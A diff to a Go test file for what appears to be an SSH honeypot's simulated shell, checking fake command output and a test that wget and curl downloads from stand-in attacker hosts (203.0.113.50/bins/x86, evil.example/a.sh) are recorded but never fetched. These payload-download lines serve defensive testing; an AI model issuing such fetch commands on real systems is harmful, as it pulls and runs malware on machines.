@@ -51,7 +51,8 @@ func TestCommands(t *testing.T) {
 		{"root", "uname -a", []string{"Linux web01 6.1.0-23-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.99-1 (2024-07-15) x86_64 GNU/Linux\n"}, 0},
 		{"root", "uname -rm", []string{"6.1.0-23-amd64 x86_64\n"}, 0},
 		{"root", "uname -z", []string{"uname: invalid option -- 'z'"}, 1},
-		{"root", "ls /", []string{"bin  boot  dev  etc  home"}, 0},
+		{"root", "ls /", []string{"bin   etc         initrd.img.old  lost+found  opt   run   sys  var\n"}, 0},
+		{"root", "ls / | head -3", []string{"bin\nboot\ndev\n"}, 0},
 		{"root", "ls -la", []string{"total ", "-rw-r--r--  1 root root  571 ", ".bashrc", "drwx------  2 root root 4096 ", ".ssh", " .\n", " ..\n"}, 0},
 		{"root", "ls -l /etc/passwd", []string{"-rw-r--r-- 1 root root "}, 0},
 		{"root", "ls /nope", []string{"ls: cannot access '/nope': No such file or directory\n"}, 2},
@@ -78,15 +79,15 @@ func TestCommands(t *testing.T) {
 		{"root", "ps", []string{"    PID TTY          TIME CMD\n", "bash\n", "ps\n"}, 0},
 		{"root", "ps aux", []string{"USER         PID", "/sbin/init", "sshd: root@pts/0"}, 0},
 		{"root", "hostname", []string{"web01\n"}, 0},
-		{"root", "w", []string{" up 41 days,  3:12,  1 user,  load average:", "root     pts/0    203.0.113.9"}, 0},
-		{"root", "uptime", []string{"18:24:00 up 41 days,  3:12,  1 user"}, 0},
+		{"root", "w", []string{" up 12 days, 10:49,  1 user,  load average:", "root     pts/0    203.0.113.9"}, 0},
+		{"root", "uptime", []string{"18:24:00 up 12 days, 10:49,  1 user"}, 0},
 		{"root", "free", []string{"Mem:", "4020456", "Swap:"}, 0},
 		{"root", "free -h", []string{"3.8Gi"}, 0},
 		{"root", "df -h", []string{"/dev/sda1        29G"}, 0},
 		{"root", "ifconfig", []string{"inet 192.0.2.10  netmask 255.255.255.0  broadcast 192.0.2.255"}, 0},
 		{"admin", "ifconfig", []string{"-bash: ifconfig: command not found\n"}, 127},
 		{"root", "ip a", []string{"inet 192.0.2.10/24 brd 192.0.2.255 scope global dynamic eth0"}, 0},
-		{"root", "ip r", []string{"default via 192.0.2.1 dev eth0"}, 0},
+		{"root", "ip r", []string{"192.0.2.0/24 dev eth0 proto kernel scope link src 192.0.2.10 \n"}, 0},
 		{"root", "foo", []string{"-bash: foo: command not found\n"}, 127},
 		{"root", "busybox ECCHI", []string{"-bash: busybox: command not found\n"}, 127},
 		{"root", "./run.sh", []string{"-bash: ./run.sh: No such file or directory\n"}, 127},
@@ -110,7 +111,6 @@ func TestCommands(t *testing.T) {
 		{"root", "; ls", []string{"-bash: syntax error near unexpected token `;'"}, 2},
 		{"root", "echo a # comment", []string{"a\n"}, 0},
 		{"root", "FOO=bar; echo $FOO", []string{"bar\n"}, 0},
-		{"root", "echo 'unterminated", []string{"unterminated\n"}, 0},
 	}
 	for _, c := range cases {
 		s := newTest(c.user)
@@ -138,7 +138,7 @@ func TestDownloadsRecordedNeverFetched(t *testing.T) {
 	if want := []string{"http://203.0.113.50/bins/x86", "https://evil.example/a.sh"}; strings.Join(r.Downloads, " ") != strings.Join(want, " ") {
 		t.Fatalf("downloads %q, want %q", r.Downloads, want)
 	}
-	for _, w := range []string{"Connecting to 203.0.113.50:80... failed: Connection timed out.", "curl: (28) Failed to connect to evil.example port 443"} {
+	for _, w := range []string{"curl: (6) Could not resolve host: evil.example\n"} {
 		if !strings.Contains(r.Output, w) {
 			t.Errorf("output %q lacks %q", r.Output, w)
 		}
@@ -150,7 +150,7 @@ func TestDownloadsRecordedNeverFetched(t *testing.T) {
 		}
 	}
 	r = s.Run("wget evil.example/y")
-	if !strings.Contains(r.Output, "Resolving evil.example (evil.example)... ") || len(r.Downloads) != 1 {
+	if !strings.Contains(r.Output, "Resolving evil.example (evil.example)... failed: Temporary failure in name resolution.\n") || len(r.Downloads) != 1 {
 		t.Fatalf("wget by name: %q %q", r.Output, r.Downloads)
 	}
 	r = s.Run("wget")
@@ -355,6 +355,7 @@ var lineSeeds = []string{
 
 func checkRun(t *testing.T, user, line string) {
 	s := NewSession(Options{User: user, Now: fixedNow})
+	noWait(s)
 	r := s.Run(line)
 	if len(r.Output) > maxOutput+64<<10 {
 		t.Fatalf("output %d bytes", len(r.Output))
@@ -381,22 +382,14 @@ func FuzzRun(f *testing.F) {
 	})
 }
 
-func FuzzSplitWords(f *testing.F) {
+func FuzzParse(f *testing.F) {
 	for _, l := range lineSeeds {
 		f.Add(l)
 	}
 	f.Fuzz(func(t *testing.T, line string) {
-		parts := splitLine(line)
-		if len(parts) > maxParts {
-			t.Fatalf("%d parts", len(parts))
-		}
-		for _, p := range parts {
-			for _, st := range p.stages {
-				w, _ := words(st, func(string) string { return "v" })
-				if len(w) > maxWords {
-					t.Fatalf("%d words", len(w))
-				}
-			}
+		prog, err := parseScript(line, true)
+		if err == nil && prog == nil && strings.TrimSpace(line) != "" && !strings.HasPrefix(strings.TrimSpace(line), "#") {
+			t.Fatalf("%q: no program and no error", line)
 		}
 	})
 }
